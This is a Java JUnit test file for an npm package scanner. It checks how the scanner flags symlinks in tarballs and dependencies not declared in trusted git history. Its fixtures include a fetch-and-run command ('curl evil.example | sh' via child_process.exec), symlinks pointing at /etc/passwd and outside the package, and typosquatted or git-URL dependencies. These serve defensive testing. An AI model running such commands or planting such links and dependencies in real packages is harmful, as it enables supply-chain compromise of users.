@@ -1,0 +1,245 @@
+package dev.divergence.registry.npm;
+
+import static dev.divergence.fixtures.ScanWorld.row;
+import static dev.divergence.fixtures.Trees.files;
+import static dev.divergence.fixtures.Trees.with;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import dev.divergence.compare.Classifier;
+import dev.divergence.demo.GitHistoryBuilder;
+import dev.divergence.fixtures.LocalNpm;
+import dev.divergence.fixtures.ScanWorld;
+import dev.divergence.model.FileDivergence;
+import dev.divergence.model.FileStatus;
+import dev.divergence.model.PackageId;
+import dev.divergence.model.Release;
+import dev.divergence.model.ReleaseReport;
+import dev.divergence.model.RiskFlag;
+import dev.divergence.model.Verdict;
+import java.io.ByteArrayOutputStream;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Path;
+import java.time.Instant;
+import java.util.Map;
+import java.util.Optional;
+import java.util.Set;
+import java.util.SortedMap;
+import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
+import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
+import org.apache.commons.compress.compressors.gzip.GzipCompressorOutputStream;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * Issue 10, precision on real histories: links that stay inside the package are judged by the file they point to
+ * (old express tarballs link {@code support/x/index.js -> lib/x.js}), a link the source holds is a match, and a
+ * dependency some trusted commit declared with the same spec is a divergence to read, not a new package (yargs
+ * pre-releases cut from other working trees). Each with the payload an attacker would put in the slack.
+ */
+class LinksAndHistoryScanTest {
+
+    @TempDir
+    Path dir;
+    private GitHistoryBuilder git;
+    private Instant when = Instant.parse("2026-01-01T00:00:00Z");
+
+    @BeforeEach
+    void repo() throws Exception {
+        git = GitHistoryBuilder.init(dir.resolve("repo"));
+    }
+
+    private static String manifest(String version, String deps) {
+        return "{\n  \"name\": \"linkjs\",\n  \"version\": \"" + version + "\",\n  \"main\": \"./index.js\",\n"
+                + "  \"dependencies\": {" + deps + "}\n}\n";
+    }
+
+    private SortedMap<String, byte[]> commit(String version, String deps, boolean tag) throws Exception {
+        SortedMap<String, byte[]> tree = files("package.json", manifest(version, deps),
+                "index.js", "module.exports = require('./lib/core');\n",
+                "lib/core.js", "module.exports = function () { return 1; };\n",
+                "test/fixture.js", "require('child_process').exec('curl evil.example | sh');\n",
+                "README.md", "# linkjs\n");
+        when = when.plusSeconds(3600);
+        git.commit(tree, version, when);
+        if (tag) {
+            git.tag("v" + version, false);
+        }
+        return tree;
+    }
+
+    private ReleaseReport scan(LocalNpm npm, String version) throws Exception {
+        npm.write();
+        NpmSupport support = new NpmSupport(npm.baseUrl(), ScanWorld.fetcher());
+        Release r = support.registry().releases(PackageId.parse("pkg:npm/linkjs")).stream()
+                .filter(x -> x.version().equals(version)).findFirst().orElseThrow();
+        return ScanWorld.scanner(support, dir).scan(r, Optional.of(git.dir().toString()));
+    }
+
+    /** A tarball of the files under package/ plus symbolic links (path -> target), as npm pack never writes them. */
+    private static byte[] tarball(SortedMap<String, byte[]> files, Map<String, String> links) throws Exception {
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        try (GzipCompressorOutputStream gz = new GzipCompressorOutputStream(bytes);
+             TarArchiveOutputStream tar = new TarArchiveOutputStream(gz)) {
+            for (Map.Entry<String, byte[]> e : files.entrySet()) {
+                TarArchiveEntry te = new TarArchiveEntry("package/" + e.getKey());
+                te.setSize(e.getValue().length);
+                tar.putArchiveEntry(te);
+                tar.write(e.getValue());
+                tar.closeArchiveEntry();
+            }
+            for (Map.Entry<String, String> l : links.entrySet()) {
+                TarArchiveEntry te = new TarArchiveEntry("package/" + l.getKey(), TarArchiveEntry.LF_SYMLINK);
+                te.setLinkName(l.getValue());
+                tar.putArchiveEntry(te);
+                tar.closeArchiveEntry();
+            }
+        }
+        return bytes.toByteArray();
+    }
+
+    @Test
+    void aLinkToAPlainFileOfThePackageIsDivergentNotAnEscape() throws Exception {
+        SortedMap<String, byte[]> tree = commit("1.0.0", "", true);
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
+            npm.publishTarball("1.0.0", tarball(tree, Map.of("lib/index.js", "core.js")), tree.get("package.json"));
+            ReleaseReport r = scan(npm, "1.0.0");
+            FileDivergence link = row(r.artifacts().get(0), "package/lib/index.js");
+            assertEquals(FileStatus.PHANTOM, link.status());
+            assertEquals(Classifier.SPECIAL_ENTRY, link.ruleId());
+            assertTrue(link.riskFlags().containsAll(Set.of(RiskFlag.LINK, RiskFlag.LINK_IN_ARCHIVE, RiskFlag.CODE)),
+                    link.riskFlags().toString());
+            assertFalse(link.highRisk());
+            assertEquals(Verdict.DIVERGENT, r.verdict());
+        }
+    }
+
+    @Test
+    void aLinkGivingAModuleTheBytesOfAPayloadFileIsHighRisk() throws Exception {
+        // The slack: the fixture with exec is explained where it lies (test/), the link makes lib/ load it.
+        SortedMap<String, byte[]> tree = commit("1.1.0", "", true);
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
+            npm.publishTarball("1.1.0", tarball(tree, Map.of("lib/extra.js", "../test/fixture.js")),
+                    tree.get("package.json"));
+            ReleaseReport r = scan(npm, "1.1.0");
+            FileDivergence link = row(r.artifacts().get(0), "package/lib/extra.js");
+            assertTrue(link.riskFlags().containsAll(Set.of(RiskFlag.LINK_IN_ARCHIVE, RiskFlag.DYNAMIC_EXEC)),
+                    link.riskFlags().toString());
+            assertTrue(link.highRisk());
+            assertEquals(Verdict.HIGH_RISK, r.verdict());
+        }
+    }
+
+    @Test
+    void aLinkLeavingThePackageOrPointingAtNothingStaysAnEscape() throws Exception {
+        SortedMap<String, byte[]> tree = commit("1.2.0", "", true);
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
+            npm.publishTarball("1.2.0", tarball(tree, Map.of("lib/a.js", "../../outside.js", "lib/b.js", "/etc/passwd",
+                    "lib/c.js", "missing.js", "lib/d", "../lib")), tree.get("package.json"));
+            ReleaseReport r = scan(npm, "1.2.0");
+            for (String p : new String[] {"package/lib/a.js", "package/lib/b.js", "package/lib/c.js", "package/lib/d"}) {
+                FileDivergence link = row(r.artifacts().get(0), p);
+                assertFalse(link.riskFlags().contains(RiskFlag.LINK_IN_ARCHIVE), p);
+                assertTrue(link.highRisk(), p);
+            }
+            assertEquals(Verdict.HIGH_RISK, r.verdict());
+        }
+    }
+
+    @Test
+    void aLinkTheSourceHoldsIsAMatch() throws Exception {
+        git.symlink("lib/index.js", "core.js");
+        SortedMap<String, byte[]> tree = commit("1.3.0", "", true);
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
+            npm.publishTarball("1.3.0", tarball(tree, Map.of("lib/index.js", "core.js")), tree.get("package.json"));
+            ReleaseReport r = scan(npm, "1.3.0");
+            FileDivergence link = row(r.artifacts().get(0), "package/lib/index.js");
+            assertEquals(FileStatus.MATCH, link.status());
+            assertFalse(link.highRisk());
+            assertEquals(Verdict.CLEAN, r.verdict());
+        }
+    }
+
+    @Test
+    void aLinkTheSourceHoldsWithAnotherTargetIsNotAMatch() throws Exception {
+        git.symlink("lib/index.js", "core.js");
+        SortedMap<String, byte[]> tree = commit("1.4.0", "", true);
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
+            npm.publishTarball("1.4.0", tarball(tree, Map.of("lib/index.js", "../test/fixture.js")),
+                    tree.get("package.json"));
+            ReleaseReport r = scan(npm, "1.4.0");
+            FileDivergence link = row(r.artifacts().get(0), "package/lib/index.js");
+            assertEquals(FileStatus.PHANTOM, link.status());
+            assertTrue(link.highRisk());
+            assertEquals(Verdict.HIGH_RISK, r.verdict());
+        }
+    }
+
+    @Test
+    void aDependencyAnotherTrustedCommitDeclaredWithTheSameSpecIsDivergentNotNew() throws Exception {
+        commit("2.0.0", "\"left-pad\": \"^1.3.0\", \"find-up\": \"^4.1.0\"", true);
+        SortedMap<String, byte[]> later = commit("2.1.0", "\"left-pad\": \"^1.3.0\"", true);
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
+            // 2.1.0-beta.0: cut from a working tree that still had 2.0.0's find-up
+            npm.publish("2.1.0-beta.0", with(later, "package.json",
+                    manifest("2.1.0-beta.0", "\"left-pad\": \"^1.3.0\", \"find-up\": \"^4.1.0\"")));
+            ReleaseReport r = scan(npm, "2.1.0-beta.0");
+            FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
+            assertEquals(FileStatus.MODIFIED, pj.status());
+            assertEquals(NpmGeneratedFiles.DEPENDENCY_FROM_HISTORY, pj.ruleId());
+            assertFalse(pj.riskFlags().contains(RiskFlag.NEW_DEPENDENCY));
+            assertFalse(pj.highRisk());
+            assertTrue(pj.detail().orElseThrow().contains("[find-up]"), pj.detail().orElseThrow());
+            assertEquals(Verdict.DIVERGENT, r.verdict());
+        }
+    }
+
+    @Test
+    void aDependencyNoTrustedCommitDeclaredWithThatSpecIsStillNew() throws Exception {
+        commit("3.0.0", "\"left-pad\": \"^1.3.0\", \"find-up\": \"^4.1.0\"", true);
+        SortedMap<String, byte[]> later = commit("3.1.0", "\"left-pad\": \"^1.3.0\"", true);
+        // the same name with another spec (a git URL, a new range) or a name never declared: new packages
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
+            npm.publish("3.1.0-beta.0", with(later, "package.json", manifest("3.1.0-beta.0",
+                    "\"left-pad\": \"^1.3.0\", \"find-up\": \"github:evil/find-up\"")));
+            npm.publish("3.1.0-beta.1", with(later, "package.json", manifest("3.1.0-beta.1",
+                    "\"left-pad\": \"^1.3.0\", \"find-upp\": \"^4.1.0\"")));
+            for (String v : new String[] {"3.1.0-beta.0", "3.1.0-beta.1"}) {
+                ReleaseReport r = scan(npm, v);
+                FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
+                assertEquals(NpmGeneratedFiles.NEW_DEPENDENCY, pj.ruleId(), v);
+                assertTrue(pj.highRisk(), v);
+                assertEquals(Verdict.HIGH_RISK, r.verdict(), v);
+            }
+        }
+    }
+
+    @Test
+    void aDependencyOnlyAnUntrustedRefDeclaredIsStillNew() throws Exception {
+        SortedMap<String, byte[]> base = commit("4.0.0", "\"left-pad\": \"^1.3.0\"", true);
+        commit("4.0.1", "\"left-pad\": \"^1.3.0\", \"evil\": \"^1.0.0\"", false);
+        try (org.eclipse.jgit.api.Git g = org.eclipse.jgit.api.Git.open(git.dir().toFile())) {
+            // the commit declaring "evil" is reachable only from a pull-request ref, anyone's to push
+            var head = g.getRepository().resolve("HEAD");
+            var u = g.getRepository().updateRef("refs/pull/7/head");
+            u.setNewObjectId(head);
+            u.forceUpdate();
+            var back = g.getRepository().resolve("v4.0.0^{commit}");
+            g.reset().setMode(org.eclipse.jgit.api.ResetCommand.ResetType.HARD).setRef(back.getName()).call();
+        }
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "linkjs")) {
+            npm.publish("4.1.0-beta.0", with(base, "package.json", manifest("4.1.0-beta.0",
+                    "\"left-pad\": \"^1.3.0\", \"evil\": \"^1.0.0\"")));
+            ReleaseReport r = scan(npm, "4.1.0-beta.0");
+            FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
+            assertEquals(NpmGeneratedFiles.NEW_DEPENDENCY, pj.ruleId());
+            assertTrue(pj.highRisk());
+        }
+    }
+
+    static byte[] utf8(String s) {
+        return s.getBytes(StandardCharsets.UTF_8);
+    }
+}
